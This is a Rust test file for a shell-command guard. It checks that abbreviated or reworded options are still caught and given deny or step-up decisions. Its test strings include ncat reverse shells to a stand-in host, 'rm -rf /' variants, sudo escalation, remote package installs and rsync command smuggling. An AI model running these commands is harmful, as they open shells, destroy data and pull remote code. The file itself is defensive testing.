//! Options mean the same however they are written.

use shell::{Decision, Rule, read};

#[track_caller]
fn is_found(decision: Decision, rule: Rule, commands: &[&str]) {
    for command in commands {
        let reading = read(command);
        let found = reading.findings.iter().any(|it| (it.decision, it.rule) == (decision, rule));
        assert!(found, "{command}: {:?}", reading.findings);
    }
}

#[test]
fn an_option_is_known_with_its_value_and_cut_short() {
    is_found(
        Decision::Deny,
        Rule::ReverseShell,
        &[
            "ncat --exec /bin/sh h.example 1",
            "ncat --exec=/bin/sh h.example 1",
            "ncat --sh-exec=sh h.example 1",
            "ncat --sh=sh h.example 1",
            "ncat --lua-exec=x.lua h.example 1",
        ],
    );
    is_found(Decision::Deny, Rule::EraseRoot, &["rm --recurs --forc /", "rm --r --f /etc/x"]);
    is_found(Decision::StepUp, Rule::ForcePush, &["git push --forc", "git push --mirror=x"]);
}

#[test]
fn what_raises_rights_is_known_by_all_of_its_names() {
    is_found(Decision::Deny, Rule::Privilege, &["sudo id", "sudo-rs id", "doas id", "dzdo id"]);
}

#[test]
fn an_option_that_makes_harmless_must_be_the_very_one() {
    is_found(Decision::StepUp, Rule::SecurityOff, &["iptables-restore --tes < f"]);
    assert_eq!(read("iptables-restore --test < f").decision, Decision::Allow);
}

#[test]
fn a_name_that_begins_like_this_machine_is_another() {
    is_found(
        Decision::StepUp,
        Rule::RemoteCode,
        &[
            "pip install http://localhost.example.com/x.whl",
            "pip install http://127.0.0.1.example.com/x.whl",
        ],
    );
    is_found(
        Decision::StepUp,
        Rule::Egress,
        &[
            "export https_proxy=http://localhost.example.com:8080",
            "export https_proxy=127.example.com:8080",
            "http POST 127.example.com a=b",
        ],
    );
    for command in [
        "pip install http://localhost:8080/x.whl",
        "export https_proxy=http://127.0.0.1:8080",
        "export https_proxy=http://user@localhost:8080",
        "http POST localhost:8080 a=b",
    ] {
        let reading = read(command);
        let is_of_network = |rule| matches!(rule, Rule::RemoteCode | Rule::Egress);
        assert!(!reading.findings.iter().any(|it| is_of_network(it.rule)), "{command}");
    }
}

#[test]
fn a_dry_run_overwrites_nothing() {
    for command in ["git push --dry-run --force", "git push -nf"] {
        let findings = read(command).findings;
        assert!(!findings.iter().any(|it| it.rule == Rule::ForcePush), "{command}: {findings:?}");
    }
}

#[test]
fn what_a_runner_of_packages_runs_is_judged_as_itself() {
    for command in ["npx -y rm@1 -rf /", "uvx --from x rm -rf /", "yarn dlx rm -rf /"] {
        assert_eq!(read(command).decision, Decision::Deny, "{command}");
    }
    assert!(read("bunx @a/wrangler@3 deploy").told.commands.contains("wrangler deploy"));
}

#[test]
fn what_an_option_says_to_run_is_found_among_other_letters() {
    is_found(
        Decision::StepUp,
        Rule::Carried,
        &["rsync -e 'sh x' a b", "rsync -ave 'sh x' a b", "rsync -av -e'sh x' a b"],
    );
    for command in ["rsync -av a b", "rsync -ave ssh a b", "rsync -ave 'ssh -p 22' a b"] {
        let findings = read(command).findings;
        assert!(!findings.iter().any(|it| it.rule == Rule::Carried), "{command}: {findings:?}");
    }
}
